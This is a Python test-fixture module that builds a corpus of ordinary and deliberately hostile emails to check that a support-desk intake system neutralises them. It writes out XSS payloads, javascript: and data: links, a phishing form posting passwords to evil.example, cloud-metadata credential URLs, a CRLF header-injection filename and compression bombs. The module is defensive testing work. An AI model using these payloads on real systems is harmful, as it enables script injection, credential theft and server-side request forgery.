"""The mail corpus: hostile and ordinary messages, each with the outcome intake must give it.

Every BAD_INPUTS.md mail item (1-24) has entries here, several where the vectors differ, and
ordinary mail (plain, HTML-only, alternative, attachments, replies in Outlook and Gmail
shapes) sits beside them. test_mail_corpus.py stores and processes each one against the same
setup: a support mailbox, a second mailbox, and a case opened by mail from a known customer
(the setup case) that hostile entries point at and must leave untouched.

Messages are written by hand, byte by byte, so hostile values reach the parser as sent.
"""

from __future__ import annotations

import base64
import binascii
import gzip
import inspect
import io
import itertools
import re
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from email.utils import parseaddr
from enum import StrEnum
from typing import Any

from django.conf import settings
from django.core import mail

from followthrough.accounts.capabilities import Role
from followthrough.accounts.models import User
from followthrough.accounts.tests.factories import TeamFactory, UserFactory
from followthrough.cases.models import Case
from followthrough.customers.tests.factories import (
    ContactEmailFactory,
    ContactFactory,
    OrganizationFactory,
)
from followthrough.intake.errors import IntakeError
from followthrough.intake.mail.tokens import derive_key, reply_address, subject_tag
from followthrough.intake.models import (
    CaseMailParticipant,
    InboundMessage,
    InboundSource,
    Mailbox,
    OutboundKind,
    OutboundMessage,
)
from followthrough.intake.services.mail_inbound import NO_SUBJECT, inbound_message_process
from followthrough.intake.services.mail_outbound import outbound_message_send
from followthrough.intake.services.mail_store import inbound_mail_store

SUPPORT = "support@example.test"
SALES = "sales@example.test"
PARTICIPANT = "pat@customer.test"
PARTICIPANT_ALT = "pat.mobile@customer.test"  # another address of the setup case's contact
COLLEAGUE = "chris@customer.test"  # copied on the setup case's first message
OUTSIDER = "robin@newcomer.test"
AGENT_EMAIL = "sam@example.test"
SETUP_SUBJECT = "VPN drops every hour"
BODY = "The printer in room 4 stopped printing after this morning's update."

MB = 1024 * 1024
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(17)
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9"/></svg>'
HTML_PAGE = b"<html><body><script>alert(document.cookie)</script>Invoice</body></html>"
SHOWN_INLINE = frozenset({"image/png", "image/jpeg", "image/gif"})
VIETNAMESE = "Máy in không hoạt động, xin giúp đỡ"
VIETNAMESE_CP1258 = b"Ma\xecy in kh\xf4ng hoa\xf2t \xf0\xf4\xf2ng, xin giu\xecp \xf0\xf5\xde"
JAPANESE_SUBJECT = "お問い合わせ"
JAPANESE_BODY = "プリンターが動きません。"

_serial = itertools.count(1)


# --- The setup every entry runs against ------------------------------------------------------


@dataclass(frozen=True)
class Context:
    """The desk before the entry arrives. `case` was opened by mail from PARTICIPANT (with
    COLLEAGUE copied) and acknowledged by `ack`."""

    mailbox: Mailbox
    other_mailbox: Mailbox
    case: Case
    first: InboundMessage
    ack: OutboundMessage
    agent: User
    key: bytes

    @property
    def tag(self) -> str:
        """The setup case's signed subject tag, as our mail carries it."""
        return subject_tag(settings.CASE_NUMBER_PREFIX, self.case.pk, self.key)

    @property
    def reply_address(self) -> str:
        """The setup case's signed +tag reply address."""
        return reply_address(SUPPORT, settings.CASE_NUMBER_PREFIX, self.case.pk, self.key)

    @property
    def ack_subject(self) -> str:
        return self.ack.subject


def deliver(mailbox: Mailbox, raw: bytes) -> InboundMessage:
    """Store a message and process it, as the worker would."""
    message, _ = inbound_mail_store(mailbox=mailbox, raw=raw, source=InboundSource.IMPORT)
    inbound_message_process(message.pk)
    message.refresh_from_db()
    return message


def corpus_context() -> Context:
    team = TeamFactory.create(name="Support desk")
    mailbox = Mailbox.objects.create(name="Support", address=SUPPORT, team=team)
    other = Mailbox.objects.create(name="Sales", address=SALES, team=team)
    organization = OrganizationFactory.create(name="Customer Ltd")
    contact = ContactFactory.create(organization=organization, name="Pat Customer")
    ContactEmailFactory.create(contact=contact, address=PARTICIPANT, is_primary=True)
    ContactEmailFactory.create(contact=contact, address=PARTICIPANT_ALT)
    agent = UserFactory.create(
        role=Role.AGENT, first_name="Sam", last_name="Agent", email=AGENT_EMAIL
    )
    first = deliver(
        mailbox,
        message(
            sender=f"Pat Customer <{PARTICIPANT}>",
            cc=f"Chris Colleague <{COLLEAGUE}>",
            subject=SETUP_SUBJECT,
            message_id="<setup.first@customer.test>",
            body="Our VPN drops every hour, on the hour.",
        ),
    )
    assert first.case is not None and first.opened_case
    ack = OutboundMessage.objects.get(case=first.case, kind=OutboundKind.ACKNOWLEDGEMENT)
    return Context(
        mailbox=mailbox,
        other_mailbox=other,
        case=first.case,
        first=first,
        ack=ack,
        agent=agent,
        key=derive_key(settings.SECRET_KEY),
    )


# --- Expected outcomes ---------------------------------------------------------------------


class Outcome(StrEnum):
    NEW_CASE = "new case"
    ATTACHED = "attached to the setup case"
    QUARANTINED = "quarantined"
    IGNORED = "ignored"


@dataclass(frozen=True)
class Expect:
    outcome: Outcome
    code: str = ""  # the InboundMessage's reason_code ("" for a clean new case or attach)

    def __str__(self) -> str:
        return f"{self.outcome} ({self.code})" if self.code else str(self.outcome)


NEW_CASE = Expect(Outcome.NEW_CASE)
# A new case, with a remark that a reference to another case was refused.
NEW_CASE_REFUSED = Expect(Outcome.NEW_CASE, IntakeError.MAIL_REFERENCE_REFUSED)
ATTACHED = Expect(Outcome.ATTACHED)


def QUARANTINED(code: IntakeError) -> Expect:
    return Expect(Outcome.QUARANTINED, code)


def IGNORED(code: IntakeError) -> Expect:
    return Expect(Outcome.IGNORED, code)


Check = Callable[[InboundMessage, Context], None]
Build = Callable[[Context], bytes] | Callable[[], bytes]


@dataclass(frozen=True)
class Entry:
    name: str
    item: int  # the BAD_INPUTS.md item it covers; 0 for ordinary mail
    build: Build  # the raw bytes; called only when the entry runs (some are large)
    expect: Expect
    check: Check | None = None
    # A new case acknowledges its sender unless this is False (the sender suppresses replies).
    ack: bool = True
    # Settings for this entry, e.g. a small size limit.
    settings: tuple[tuple[str, int], ...] = ()
    # Run with the raw bytes before the entry is stored (an earlier delivery of it).
    earlier: Callable[[Context, bytes], None] | None = None
    # Whether storing it makes a new row (False: a redelivery of a stored message).
    created: bool = True
    # Processing must take less than this (for inputs that make naive code backtrack).
    max_seconds: float | None = None

    def raw(self, context: Context) -> bytes:
        if inspect.signature(self.build).parameters:
            return self.build(context)  # type: ignore[call-arg]
        return self.build()  # type: ignore[call-arg]


# --- Writing messages by hand ----------------------------------------------------------------

Value = str | bytes


def _bytes(value: Value) -> bytes:
    return value if isinstance(value, bytes) else value.encode("utf-8")


def _crlf(body: Value) -> bytes:
    if isinstance(body, bytes):
        return body
    return body.replace("\r\n", "\n").replace("\n", "\r\n").encode("utf-8")


def new_message_id() -> str:
    return f"<corpus.{next(_serial)}@customer.test>"


def message(
    *,
    sender: Value | None = f"Robin Newcomer <{OUTSIDER}>",
    to: Value | None = f"Support <{SUPPORT}>",
    cc: Value | None = None,
    subject: Value | None = "Printer offline",
    message_id: str | None = "",
    headers: Sequence[tuple[str, Value]] = (),
    content_type: str | None = "text/plain; charset=utf-8",
    encoding: str | None = None,
    body: Value = BODY,
) -> bytes:
    """One message. `message_id` "" makes a fresh one; None leaves the header out."""
    lines: list[bytes] = []

    def add(name: str, value: Value) -> None:
        lines.append(name.encode("ascii") + b": " + _bytes(value))

    if sender is not None:
        add("From", sender)
    if to is not None:
        add("To", to)
    if cc is not None:
        add("Cc", cc)
    if subject is not None:
        add("Subject", subject)
    if message_id is not None:
        add("Message-ID", message_id or new_message_id())
    add("Date", "Mon, 16 Nov 2026 10:00:00 +0000")
    add("MIME-Version", "1.0")
    for name, value in headers:
        add(name, value)
    if content_type is not None:
        add("Content-Type", content_type)
    if encoding is not None:
        add("Content-Transfer-Encoding", encoding)
    data = _crlf(body)
    return b"\r\n".join(lines) + b"\r\n\r\n" + data + (b"" if data.endswith(b"\n") else b"\r\n")


def part(
    content_type: str,
    body: Value,
    *,
    headers: Sequence[tuple[str, Value]] = (),
    encoding: str | None = None,
) -> bytes:
    """One MIME part: its headers, a blank line and its body as given."""
    lines = [b"Content-Type: " + _bytes(content_type)]
    if encoding is not None:
        lines.append(b"Content-Transfer-Encoding: " + encoding.encode())
    lines += [name.encode() + b": " + _bytes(value) for name, value in headers]
    return b"\r\n".join(lines) + b"\r\n\r\n" + _crlf(body)


def attachment(
    data: bytes,
    *,
    content_type: Value = "application/octet-stream",
    filename: Value | None = "file.bin",
    disposition: Value | None = None,
    headers: Sequence[tuple[str, Value]] = (),
) -> bytes:
    """A base64 attachment. `disposition` is the raw Content-Disposition value; without it,
    `filename` goes into a quoted filename= parameter exactly as given (bytes stay raw)."""
    if disposition is None and filename is not None:
        disposition = b'attachment; filename="' + _bytes(filename) + b'"'
    extra = [("Content-Disposition", disposition)] if disposition is not None else []
    return part(
        content_type if isinstance(content_type, str) else content_type.decode(),
        base64.encodebytes(data),
        headers=[*extra, *headers],
        encoding="base64",
    )


def multipart(
    subtype: str, parts: Sequence[bytes], *, boundary: str = "", close: bool = True, **params: str
) -> tuple[str, bytes]:
    """(Content-Type, body) of a multipart holding `parts`."""
    boundary = boundary or f"=_corpus_{next(_serial)}"
    extra = "".join(f'; {name.replace("_", "-")}="{value}"' for name, value in params.items())
    content_type = f'multipart/{subtype}; boundary="{boundary}"{extra}'
    marker = f"--{boundary}".encode()
    body = b"This is a multi-part message in MIME format.\r\n"
    for piece in parts:
        body += marker + b"\r\n" + piece + b"\r\n"
    if close:
        body += marker + b"--\r\n"
    return content_type, body


def with_parts(subtype: str, parts: Sequence[bytes], *, close: bool = True, **kw: Any) -> bytes:
    content_type, body = multipart(subtype, parts, close=close)
    return message(content_type=content_type, body=body, **kw)


def with_attachments(
    *attachments: bytes, text: str = "Please see the attached file.", **kw: Any
) -> bytes:
    """A multipart/mixed message: a short text, then the attachments."""
    return with_parts("mixed", [part("text/plain; charset=utf-8", text), *attachments], **kw)


def with_header(name: str, value: str) -> Callable[[], bytes]:
    """A builder of an ordinary message that carries one more header."""
    return lambda: message(headers=[(name, value)])


def html_mail(html: str, **kw: Any) -> bytes:
    return message(content_type="text/html; charset=utf-8", body=html, **kw)


def encoded_word(text: str, charset: str = "utf-8") -> str:
    return f"=?{charset}?b?{base64.b64encode(text.encode(charset)).decode()}?="


def rfc2231(text: str) -> str:
    """A filename*= parameter value: UTF-8, percent-encoded."""
    return "utf-8''" + "".join(
        chr(b) if b < 128 and (chr(b).isalnum() or chr(b) in ".-_") else f"%{b:02X}"
        for b in text.encode()
    )


def png_of_size(width: int, height: int) -> bytes:
    """A tiny, valid PNG file that declares `width` x `height` pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\x00" + bytes(3 * 4), 9)  # one row's worth: a viewer must not care
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def zip_bomb() -> bytes:
    """A small zip (about 16 KB) that would unpack to 16 MB of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("zeros.bin", bytes(16 * MB))
    return buffer.getvalue()


def gzip_bomb() -> bytes:
    """A small gzip file (about 130 KB) that would unpack to 128 MB of zeros: one member,
    repeated (a gzip file may hold many)."""
    member = gzip.compress(bytes(8 * MB), compresslevel=9, mtime=0)
    return member * 16


def uuencoded(data: bytes, name: str) -> bytes:
    lines = [f"begin 644 {name}".encode()]
    lines += [binascii.b2a_uu(data[i : i + 45]).rstrip(b"\n") for i in range(0, len(data), 45)]
    lines += [b"`", b"end", b""]
    return b"\r\n".join(lines)


def base64_zeros(size: int) -> bytes:
    """`size` zero bytes, base64-encoded in 76-character lines, made without encoding them."""
    line = b"A" * 76 + b"\r\n"  # 57 zero bytes
    full, rest = divmod(size, 57)
    tail = base64.b64encode(bytes(rest)) + b"\r\n" if rest else b""
    return line * full + tail


def nested_multipart(depth: int) -> bytes:
    """A message whose multipart parts nest `depth` levels deep."""
    content_type, body = "text/plain; charset=utf-8", b"Deep down.\r\n"
    for level in range(depth):
        boundary = f"deep{level}"
        body = (
            f"--{boundary}\r\nContent-Type: {content_type}\r\n\r\n".encode()
            + body
            + f"\r\n--{boundary}--\r\n".encode()
        )
        content_type = f'multipart/mixed; boundary="{boundary}"'
    return message(content_type=content_type, body=body)


def nested_messages(depth: int) -> bytes:
    """A message with a forwarded message attached, `depth` forwards deep."""
    inner = message(subject="The original", body="Original text.")
    for level in range(depth):
        inner = message(subject=f"Fwd {level}", content_type="message/rfc822", body=inner)
    return with_attachments(
        part("message/rfc822", inner, headers=[("Content-Disposition", "attachment")]),
        text="Forwarded many times.",
    )


def address_list(count: int, domain: str) -> str:
    return ",\r\n ".join(f"person{n}@{domain}" for n in range(count))


# --- Checks ----------------------------------------------------------------------------------


def note(message: InboundMessage) -> str:
    assert message.interaction is not None
    return message.interaction.note


def checks(*parts: Check) -> Check:
    def run(message: InboundMessage, context: Context) -> None:
        for check in parts:
            check(message, context)

    return run


def note_has(*texts: str) -> Check:
    def run(message: InboundMessage, context: Context) -> None:
        text = note(message)
        for wanted in texts:
            assert wanted in text, f"{wanted!r} is not in the note:\n{text}"

    return run


def note_lacks(*texts: str) -> Check:
    """None of `texts` (case-insensitive) is in the note: what an HTML body's markup did is
    gone, not kept as text."""

    def run(message: InboundMessage, context: Context) -> None:
        text = note_body(message).lower()
        for unwanted in texts:
            assert unwanted.lower() not in text, f"{unwanted!r} is in the note:\n{text}"

    return run


_TAG = re.compile(r"<\s*/?\s*[a-z!]", re.I)


def note_body(message: InboundMessage) -> str:
    """The note without its first line ("Email from <sender>: subject")."""
    return note(message).split("\n\n", 1)[-1]


def note_has_no_markup(message: InboundMessage, context: Context) -> None:
    """An HTML-only body reaches the note as words: no tag of it survives."""
    text = note_body(message)
    assert not _TAG.search(text), f"markup in the note:\n{text}"


def html_note_is_inert(*words: str) -> Check:
    """The common check of an HTML-only hostile body: the words it shows are kept, and no
    tag, script text, handler or dangerous URL is."""
    return checks(
        note_has(*words),
        note_has_no_markup,
        note_lacks("alert(", "javascript:", "onerror", "onload", "srcdoc", "evil.example"),
    )


def subject_is(expected: str) -> Check:
    def run(message: InboundMessage, context: Context) -> None:
        assert message.subject == expected
        assert message.case is not None
        assert message.case.subject == expected

    return run


def from_is(address: str, name: str | None = None) -> Check:
    def run(message: InboundMessage, context: Context) -> None:
        assert message.from_address == address
        if name is not None:
            assert message.from_name == name

    return run


def one_attachment(**fields: object) -> Check:
    def run(message: InboundMessage, context: Context) -> None:
        attachments = list(message.attachments.all())
        assert len(attachments) == 1, [a.name for a in attachments]
        for name, value in fields.items():
            assert getattr(attachments[0], name) == value, (name, getattr(attachments[0], name))

    return run


def attachment_bytes(expected: bytes) -> Check:
    def run(message: InboundMessage, context: Context) -> None:
        (stored,) = message.attachments.all()
        with stored.file.open("rb") as handle:
            assert handle.read() == expected

    return run


def attachment_count(count: int) -> Check:
    def run(message: InboundMessage, context: Context) -> None:
        assert message.attachments.count() == count

    return run


def has_defect(*words: str) -> Check:
    """A defect sentence mentions each of `words` (what the agent is told was repaired)."""

    def run(message: InboundMessage, context: Context) -> None:
        joined = " ".join(message.defects).lower()
        for word in words:
            assert word.lower() in joined, f"{word!r} not in defects {message.defects}"

    return run


def names_setup_case(message: InboundMessage, context: Context) -> None:
    assert context.case.number in message.reason


def ack_sent_to_the_sender_only(message: InboundMessage, context: Context) -> None:
    """The acknowledgement, sent (to the test outbox), has one recipient, the sender, and no
    header the message's subject or names could have smuggled in."""
    ack = OutboundMessage.objects.get(case=message.case, kind=OutboundKind.ACKNOWLEDGEMENT)
    mail.outbox = []
    outbound_message_send(ack.pk)
    (sent,) = mail.outbox
    assert [parseaddr(r)[1] for r in sent.recipients()] == [message.from_address]
    head = sent.message().as_bytes().split(b"\n\n", 1)[0]
    names = [line.split(b":", 1)[0].lower() for line in head.split(b"\n") if line[:1] not in b" \t"]
    assert b"bcc" not in names and b"x-injected" not in names, head
    assert names.count(b"to") == 1 and names.count(b"subject") == 1


def participants(count_at_most: int) -> Check:
    def run(message: InboundMessage, context: Context) -> None:
        assert message.case is not None
        count = CaseMailParticipant.objects.filter(case=message.case).count()
        assert 1 <= count <= count_at_most

    return run


def stays_text(text: str) -> Check:
    """A text/plain body that looks like markup is kept as the very same text."""
    return note_has(text)


def same_row_as_earlier(message: InboundMessage, context: Context) -> None:
    assert (
        InboundMessage.objects.filter(mailbox=context.mailbox).exclude(pk=context.first.pk).count()
        == 1
    )


def duplicate_points_at_earlier(message: InboundMessage, context: Context) -> None:
    earlier = InboundMessage.objects.get(mailbox=context.other_mailbox)
    assert message.duplicate_of == earlier
    assert message.case == earlier.case


def deliver_first_to(which: str) -> Callable[[Context, bytes], None]:
    def run(context: Context, raw: bytes) -> None:
        box = context.mailbox if which == "support" else context.other_mailbox
        earlier = deliver(box, raw)
        assert earlier.opened_case

    return run


def no_message_id(message: InboundMessage, context: Context) -> None:
    assert message.message_id == ""
    assert message.dedupe_key.startswith("sha:")


def contact_is_known(message: InboundMessage, context: Context) -> None:
    assert message.case is not None
    assert message.case.contact_id == context.case.contact_id


def subject_is_placeholder(message: InboundMessage, context: Context) -> None:
    """No subject: the message keeps none, the case gets the placeholder."""
    assert message.subject == ""
    assert message.case is not None
    assert message.case.subject == NO_SUBJECT


# --- The corpus ------------------------------------------------------------------------------

SCRIPT_SUBJECT = "'> <script>alert(1);</script>"
HTML_IN_TEXT = '<b>Bold</b> <script>alert(1)</script> <img src=x onerror="alert(2)">'
MARKDOWN_LINK = "Click [x](javascript:alert(1)) to see the error."
PATHOLOGICAL_URL = "http://" + "a." * 30_000 + "!" + "/" + "%" * 20_000
LONG_NAME = "A" * 1000 + ".pdf"
WINDOWS_PATH = "C:\\Windows\\System32\\a.dll"
CRLF_NAME = "a\r\nX-Injected: 1.pdf"

OUTLOOK_HTML = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style><!-- p.MsoNormal {margin:0cm; font-family:"Calibri",sans-serif;} --></style></head>
<body lang="EN-US"><div class="WordSection1">
<p class="MsoNormal">Hi,<o:p></o:p></p>
<p class="MsoNormal">The VPN still drops. Screenshot below.<o:p></o:p></p>
<p class="MsoNormal"><img width="20" height="10" src="cid:image001.png@01DB3A2C.5F1E2D30"></p>
<div style="border:none;border-top:solid #E1E1E1 1.0pt">
<p class="MsoNormal"><b>From:</b> Support &lt;support@example.test&gt;<br><b>Sent:</b> Monday,
16 November 2026 09:00<br><b>Subject:</b> Re: VPN drops every hour</p></div>
<p class="MsoNormal">Hello, we have received your message.</p></div></body></html>"""

OUTLOOK_TEXT = """Hi,

The VPN still drops. Screenshot below.

[cid:image001.png@01DB3A2C.5F1E2D30]

-----Original Message-----
From: Support <support@example.test>
Sent: Monday, 16 November 2026 09:00
To: Pat Customer <pat@customer.test>
Subject: Re: VPN drops every hour

Hello,

We have received your message and opened a case.
"""

GMAIL_TEXT = """Thanks, it works again after the restart.

On Mon, 16 Nov 2026 at 10:00, Support <support@example.test> wrote:
> Hello,
>
> We have received your message and opened a case.
> The Support desk team will answer you.
"""

GMAIL_HTML = """<div dir="ltr">Thanks, it works again after the restart.</div><br>
<div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, 16 Nov 2026 at 10:00,
Support &lt;<a href="mailto:support@example.test">support@example.test</a>&gt; wrote:<br></div>
<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid
rgb(204,204,204);padding-left:1ex">Hello,<br><br>We have received your message and opened a
case.</blockquote></div>"""

THUNDERBIRD_REPLY = """Here is the log you asked for: tunnel reset at 10:00:02.

On 16.11.26 09:00, Support wrote:
> Hello,
>
> We have received your message and opened a case.
"""

DSN_TEXT = """This is the mail system at host mx.customer.test.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<nobody@customer.test>: host mx.customer.test said: 550 5.1.1 User unknown
"""

DSN_STATUS = """Reporting-MTA: dns; mx.customer.test

Final-Recipient: rfc822; nobody@customer.test
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 User unknown
"""


def _reply_headers(context: Context) -> list[tuple[str, Value]]:
    return [
        ("In-Reply-To", f"<{context.ack.message_id}>"),
        ("References", f"<{context.first.message_id}> <{context.ack.message_id}>"),
    ]


def _participant(**kw: Any) -> dict[str, Any]:
    return {"sender": f"Pat Customer <{PARTICIPANT}>", **kw}


def _dsn() -> bytes:
    content_type, body = multipart(
        "report",
        [
            part("text/plain; charset=us-ascii", DSN_TEXT),
            part("message/delivery-status", DSN_STATUS),
            part("text/rfc822-headers", "From: Support <support@example.test>\nSubject: Hi\n"),
        ],
        report_type="delivery-status",
    )
    return message(
        sender="Mail Delivery Subsystem <delivery@mx.customer.test>",
        subject="Undelivered Mail Returned to Sender",
        content_type=content_type,
        body=body,
    )


def _mdn() -> bytes:
    content_type, body = multipart(
        "report",
        [
            part("text/plain", "Your message was displayed on the recipient's screen."),
            part(
                "message/disposition-notification",
                "Reporting-UA: mail.customer.test\nFinal-Recipient: rfc822;pat@customer.test\n"
                "Disposition: automatic-action/MDN-sent-automatically; displayed\n",
            ),
        ],
        report_type="disposition-notification",
    )
    return message(subject="Read: Printer offline", content_type=content_type, body=body)


def _outlook_reply(context: Context) -> bytes:
    alternative_type, alternative = multipart(
        "alternative",
        [
            part("text/plain; charset=utf-8", OUTLOOK_TEXT),
            part("text/html; charset=utf-8", OUTLOOK_HTML),
        ],
    )
    related_type, related = multipart(
        "related",
        [
            part(alternative_type, alternative),
            part(
                'image/png; name="image001.png"',
                base64.encodebytes(PNG),
                headers=[
                    ("Content-ID", "<image001.png@01DB3A2C.5F1E2D30>"),
                    ("Content-Disposition", 'inline; filename="image001.png"'),
                ],
                encoding="base64",
            ),
        ],
        type="multipart/alternative",
    )
    return message(
        **_participant(
            subject=f"RE: {context.ack_subject}",
            headers=[
                *_reply_headers(context),
                ("Thread-Topic", SETUP_SUBJECT),
                ("Thread-Index", "AQHbOizfXb3lYgZ1+kqsz0Gmrp2sBg=="),
                ("X-MS-Has-Attach", "yes"),
                ("X-MS-TNEF-Correlator", ""),
                ("Content-Language", "en-US"),
            ],
        ),
        content_type=related_type,
        body=related,
    )


def _gmail_reply(context: Context) -> bytes:
    content_type, body = multipart(
        "alternative",
        [
            part('text/plain; charset="UTF-8"', GMAIL_TEXT),
            part('text/html; charset="UTF-8"', GMAIL_HTML, encoding="quoted-printable"),
        ],
        boundary="000000000000a1b2c3d4e5f6",
    )
    return message(
        **_participant(subject=f"Re: {context.ack_subject}", headers=_reply_headers(context)),
        content_type=content_type,
        body=body,
    )


def _ten_thousand_recipients() -> bytes:
    return message(to=address_list(5000, "many.test"), cc=address_list(5000, "more.test"))


CORPUS: list[Entry] = [
    # --- Ordinary mail ------------------------------------------------------------------------
    Entry(
        "ordinary_plain_text",
        0,
        lambda: message(subject="Printer offline"),
        NEW_CASE,
        checks(subject_is("Printer offline"), note_has(BODY), participants(1)),
    ),
    Entry(
        "ordinary_from_a_known_contact",
        0,
        lambda: message(sender=f"Pat <{PARTICIPANT}>", subject="A second, separate problem"),
        NEW_CASE,
        contact_is_known,
    ),
    Entry(
        "ordinary_html_only",
        0,
        lambda: html_mail("<p>Hello,</p><p>The <b>printer</b> is <i>offline</i>.</p>"),
        NEW_CASE,
        checks(note_has("Hello,", "printer", "offline"), note_has_no_markup),
    ),
    Entry(
        "ordinary_multipart_alternative",
        0,
        lambda: with_parts(
            "alternative",
            [
                part("text/plain; charset=utf-8", "Plain words win."),
                part("text/html; charset=utf-8", "<p>HTML words lose.</p>"),
            ],
        ),
        NEW_CASE,
        checks(note_has("Plain words win."), note_lacks("HTML words lose")),
    ),
    Entry(
        "ordinary_with_pdf_and_png",
        0,
        lambda: with_attachments(
            attachment(PDF, content_type="application/pdf", filename="invoice.pdf"),
            attachment(PNG, content_type="image/png", filename="screen.png"),
        ),
        NEW_CASE,
        checks(attachment_count(2), note_has("invoice.pdf", "screen.png")),
    ),
    Entry(
        "ordinary_reply_with_quoted_history",
        0,
        lambda c: message(
            **_participant(subject=f"Re: {c.ack_subject}", headers=_reply_headers(c)),
            body=THUNDERBIRD_REPLY,
        ),
        ATTACHED,
        checks(note_has("tunnel reset at 10:00:02"), note_lacks("We have received")),
    ),
    Entry(
        "ordinary_outlook_reply_with_inline_image",
        0,
        _outlook_reply,
        ATTACHED,
        checks(
            note_has("The VPN still drops."),
            note_lacks("We have received"),
            one_attachment(
                name="image001.png", content_type="image/png", inline=True, download_only=False
            ),
        ),
    ),
    Entry(
        "ordinary_gmail_reply",
        0,
        _gmail_reply,
        ATTACHED,
        checks(note_has("it works again"), note_lacks("We have received")),
    ),
    Entry(
        "ordinary_from_the_contacts_other_address",
        0,
        lambda c: message(sender=PARTICIPANT_ALT, subject=f"Re: {c.ack_subject}"),
        ATTACHED,
    ),
    # --- 1. Script in the subject ------------------------------------------------------------
    Entry(
        "subject_script_plain",
        1,
        lambda: message(subject=SCRIPT_SUBJECT),
        NEW_CASE,
        checks(subject_is(SCRIPT_SUBJECT), ack_sent_to_the_sender_only),
    ),
    Entry(
        "subject_script_encoded_word_base64",
        1,
        lambda: message(subject=encoded_word(SCRIPT_SUBJECT)),
        NEW_CASE,
        subject_is(SCRIPT_SUBJECT),
    ),
    Entry(
        "subject_script_encoded_word_q",
        1,
        lambda: message(subject="=?iso-8859-1?q?=27=3E_=3Cscript=3Ealert=281=29;=3C/script=3E?="),
        NEW_CASE,
        subject_is(SCRIPT_SUBJECT),
    ),
    # --- 2. Hostile HTML bodies, one vector each -----------------------------------------------
    Entry(
        "html_script",
        2,
        lambda: html_mail("<p>Hello</p><script>alert(1)</script>"),
        NEW_CASE,
        html_note_is_inert("Hello"),
    ),
    Entry(
        "html_img_onerror",
        2,
        lambda: html_mail('<p>Hello</p><img src=x onerror="alert(1)">'),
        NEW_CASE,
        html_note_is_inert("Hello"),
    ),
    Entry(
        "html_svg_onload",
        2,
        lambda: html_mail('<svg onload="alert(1)"><text>svg words</text></svg><p>Hello</p>'),
        NEW_CASE,
        checks(html_note_is_inert("Hello"), note_lacks("svg words")),
    ),
    Entry(
        "html_iframe_srcdoc",
        2,
        lambda: html_mail('<iframe srcdoc="<script>alert(1)</script>"></iframe><p>Hello</p>'),
        NEW_CASE,
        html_note_is_inert("Hello"),
    ),
    Entry(
        "html_javascript_link",
        2,
        lambda: html_mail('<p><a href="javascript:alert(1)">Open your invoice</a></p>'),
        NEW_CASE,
        html_note_is_inert("Open your invoice"),
    ),
    Entry(
        "html_form",
        2,
        lambda: html_mail(
            '<form action="https://evil.example/steal" method="post"><p>Confirm your password'
            '</p><input type="password" name="pw"><button>Log in</button></form>'
        ),
        NEW_CASE,
        html_note_is_inert("Confirm your password"),
    ),
    Entry(
        "html_style_import",
        2,
        lambda: html_mail(
            '<style>@import url("https://evil.example/x.css"); p {color: red}</style>'
            '<p style="background:url(javascript:alert(1))">Hello</p>'
        ),
        NEW_CASE,
        checks(html_note_is_inert("Hello"), note_lacks("@import", "color: red")),
    ),
    Entry(
        "html_meta_refresh",
        2,
        lambda: html_mail(
            '<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">'
            "</head><body><p>Hello</p></body></html>"
        ),
        NEW_CASE,
        checks(html_note_is_inert("Hello"), note_lacks("refresh")),
    ),
    # --- 3. HTML in a text/plain body stays text -----------------------------------------------
    Entry(
        "plain_text_holding_html",
        3,
        lambda: message(body=HTML_IN_TEXT),
        NEW_CASE,
        stays_text(HTML_IN_TEXT),
    ),
    # --- 4. Dangerous link schemes -------------------------------------------------------------
    Entry(
        "markdown_javascript_link_in_text",
        4,
        lambda: message(body=MARKDOWN_LINK),
        NEW_CASE,
        stays_text(MARKDOWN_LINK),
    ),
    Entry(
        "html_mixed_case_javascript_link",
        4,
        lambda: html_mail('<a href="JaVaScRiPt:alert(1)">Mixed case</a>'),
        NEW_CASE,
        html_note_is_inert("Mixed case"),
    ),
    Entry(
        "html_double_javascript_link",
        4,
        lambda: html_mail('<a href="javascript:javascript:alert(1)">Twice</a>'),
        NEW_CASE,
        html_note_is_inert("Twice"),
    ),
    Entry(
        "html_data_url_link",
        4,
        lambda: html_mail(
            '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Data link</a>'
        ),
        NEW_CASE,
        checks(html_note_is_inert("Data link"), note_lacks("data:text/html", "PHNjcmlwdD")),
    ),
    # --- 5. Remote images and tracking pixels (the runner also forbids any connection) ---------
    Entry(
        "html_image_from_cloud_metadata",
        5,
        lambda: html_mail(
            "<p>See the picture</p>"
            '<img src="http://169.254.169.254/latest/meta-data/iam/security-credentials/">'
            '<div style="background:url(http://169.254.169.254/latest/user-data)">x</div>'
        ),
        NEW_CASE,
        checks(html_note_is_inert("See the picture"), note_lacks("169.254")),
    ),
    Entry(
        "html_tracking_pixel",
        5,
        lambda: html_mail(
            '<p>Newsletter</p><img src="https://tracker.example/open.gif?u=42" width=1 height=1>'
        ),
        NEW_CASE,
        checks(html_note_is_inert("Newsletter"), note_lacks("tracker.example")),
    ),
    # --- 6. cid: references to parts that are not there ----------------------------------------
    Entry(
        "html_cid_reference_to_a_missing_part",
        6,
        lambda: with_parts(
            "related",
            [part("text/html; charset=utf-8", '<p>Look:</p><img src="cid:nothere@customer.test">')],
        ),
